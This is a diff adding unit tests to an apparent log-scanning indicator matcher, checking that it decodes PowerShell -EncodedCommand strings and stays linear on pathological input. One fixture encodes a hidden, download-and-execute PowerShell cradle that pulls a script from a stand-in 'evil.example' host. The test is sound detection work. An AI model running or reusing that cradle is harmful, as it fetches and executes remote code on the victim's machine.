@@ -74,6 +74,31 @@ describe('key=value fields in syslog and text lines', () => {
 describe('scanLog', () => {
   const m = new IndicatorMatcher([{ type: 'domain', value: 'evil.example', raw: 'evil.example', source: 's', source_title: 't' }]);
 
+  it('finds indicators inside PowerShell encoded commands, at the base64, with the decoded command as context', async () => {
+    const b64 = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://cdn.evil.example/a.ps1')", 'utf16le').toString('base64');
+    const lines = [
+      `{"EventID":1,"CommandLine":"powershell.exe -nop -w hidden -enc ${b64}","User":"bob"}`,
+      `{"EventID":1,"CommandLine":"cmd /c \\"powershell -EncodedCommand \\"${b64}\\"\\""}`,
+      `{"EventID":1,"CommandLine":"powershell -ExecutionPolicy ${b64}"}`,
+      `{"EventID":1,"CommandLine":"grep -e evil.example"}`,
+    ];
+    const r = await scanLog(Readable.from([Buffer.from(lines.join('\n'))]), m, { file: 'sysmon.jsonl' });
+    expect(r.hits.map((h) => [h.line, h.field, h.offset, h.match])).toEqual([
+      [1, 'CommandLine', lines[0]!.indexOf(b64), 'subdomain'],
+      [2, 'CommandLine', lines.slice(0, 1).join('\n').length + 1 + lines[1]!.indexOf(b64), 'subdomain'],
+      [4, 'CommandLine', lines.slice(0, 3).join('\n').length + 1 + lines[3]!.indexOf('evil.example'), 'exact'],
+    ]);
+    expect(r.hits[0]!.context).toBe("decoded -EncodedCommand: IEX (New-Object Net.WebClient).DownloadString('http://cdn.evil.example/a.ps1')");
+  });
+
+  it('stays linear on lines full of switches and base64', async () => {
+    const text = `${' -e '.repeat(200_000)}${' -enc '.repeat(100_000)}${'QQBB'.repeat(250_000)}\n`;
+    const t0 = performance.now();
+    const r = await scanLog(Readable.from([Buffer.from(text)]), m, { file: 'x.log' });
+    expect(r.hits).toEqual([]);
+    expect(performance.now() - t0).toBeLessThan(10_000);
+  });
+
   it('names W3C columns (IIS, Windows Firewall), and the new ones after a restart repeats the directives', async () => {
     const text = [
       '#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', '#Date: 2026-01-01 00:00:00',
